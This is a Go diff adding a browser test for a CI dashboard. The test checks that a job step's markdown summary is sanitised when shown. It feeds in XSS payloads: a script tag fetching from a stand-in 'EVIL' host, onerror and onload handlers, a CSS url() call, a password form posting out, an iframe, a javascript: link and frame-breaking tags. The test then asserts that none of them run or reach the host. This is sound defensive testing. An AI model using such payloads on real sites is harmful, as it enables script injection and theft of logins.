@@ -10,6 +10,7 @@ import (
 	"net/http/cookiejar"
 	"net/http/httptest"
 	"net/url"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -287,6 +288,70 @@ func TestAttackLoginLeadsElsewhere(t *testing.T) {
 		if _, body := get(t, s.URL+"/login?next="+url.QueryEscape(next)); !strings.Contains(body, `name="next" value="/"`) {
 			t.Errorf("%q is on the page:\n%s", next, body)
 		}
+	}
+}
+
+// A step's summary is looked at in a browser, by whoever has logged in: nothing in it
+// is run, loaded or sent, and none of it stands outside its frame.
+func TestAttackSummaryInBrowser(t *testing.T) {
+	m, s := site(t)
+	hits := make(chan string, 100)
+	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { hits <- r.URL.Path }))
+	defer evil.Close()
+	m.emit(ci.Record{Type: ci.JobQueued, JobKey: "a", Name: "a"})
+	m.emit(ci.Record{Type: ci.JobStarted, JobKey: "a", Name: "a"})
+	m.emit(ci.Record{Type: ci.StepStarted, JobKey: "a", Step: 1, Name: "Report"})
+	m.emit(ci.Record{Type: ci.SummaryRec, JobKey: "a", Step: 1, Text: strings.ReplaceAll(`## Coverage
+
+| file | lines |
+|------|------:|
+| `+"`main.go`"+` | **80 %** |
+
+- [x] built
+- [ ] released
+
+<details><summary>More</summary>
+
+![chart](EVIL/chart.png) and [the report](https://example.org/report)
+
+</details>
+
+<script>window.owned = 1; fetch("EVIL/script")</script>
+<img src="EVIL/img" onerror="window.owned = 1"><img src=x onerror="window.owned = 1">
+<svg onload="window.owned = 1"><style>body { background: url(EVIL/css) }</style></svg>
+<style>#board { display: none }</style>
+<form action="EVIL/form"><input name=password></form><iframe src="EVIL/frame"></iframe>
+<a href="javascript:window.owned = 1" id=js>click</a>
+</div></details></li></ol></section><h1 id=fake>All green</h1>
+`, "EVIL", evil.URL)})
+	b := webtest.Open(t, 1100, 900)
+	b.Visit(s.URL + "/runs/" + m.runs[0].ID)
+	b.Until("document.querySelector('.markdown table td strong')")
+	b.Eval("document.querySelectorAll('.markdown details').forEach(d => d.open = true)", nil)
+	b.Eval("document.querySelectorAll('.markdown a').forEach(a => { if (!a.href) a.click() })", nil)
+	for script, want := range map[string]string{
+		"String(window.owned)": "undefined",
+		"String(document.querySelectorAll('.markdown :is(script, img, svg, style, form, input, iframe, [id], [style], [onerror])').length)": "0",
+		"document.querySelector('#board .markdown h1').innerText":                                                                           "All green", // in its frame
+		"document.querySelector('.markdown td[align=right]').innerText":                                                                     "80 %",
+		"document.querySelector('.markdown details a').getAttribute('href')":                                                                evil.URL + "/chart.png",
+		"getComputedStyle(document.querySelector('#board')).display":                                                                        "block",
+	} {
+		var got string
+		if b.Eval(script, &got); got != want {
+			t.Errorf("%s: %q", script, got)
+		}
+	}
+	if dir := os.Getenv("HEARTH_SCREENSHOTS"); dir != "" {
+		b.Screenshot(filepath.Join(dir, "summary.png"))
+	}
+	if errs := b.Errors(); len(errs) > 0 {
+		t.Errorf("the browser complains: %v", errs)
+	}
+	select {
+	case path := <-hits:
+		t.Errorf("%s was asked for", path)
+	default:
 	}
 }
 
